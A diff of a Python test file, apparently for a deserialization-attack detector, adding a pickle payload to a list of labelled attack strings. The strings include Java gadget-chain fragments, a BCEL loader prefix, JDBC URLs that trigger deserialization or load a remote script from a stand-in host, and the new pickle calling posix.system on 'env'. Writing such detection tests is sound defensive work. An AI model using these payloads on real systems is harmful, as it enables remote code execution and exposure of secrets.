@@ -73,6 +73,7 @@ def test_the_walk_follows_what_pickle_writes(value, protocol: int) -> None:
         ("LG-DESER-001", base64.b64encode(b"c\x02\x00m\x00\x03runMt\x00\x1dcom.sun.rowset.JdbcRowSetImplz").decode()),
         ("LG-DESER-001", "Mt\x00\x18sun.swing.SwingLazyValueS\x00\x01az"),
         ("LG-DESER-001", base64.b64encode(b"\x00\x03\x00\x00\x00\x01\x00\x04null\n\x13;com.sun.rowset.JdbcRowSetImpl").decode()),
+        ("LG-DESER-004", base64.b64encode(b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x20env").decode()),
         ("LG-DESER-001", "$$BCEL$$$l$8b$I$A$A"),
         ("LG-DESER-001", "jdbc:mysql://e.example/a?autoDeserialize=true"),
         ("LG-DESER-001", "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://e.example/a.sql'"),
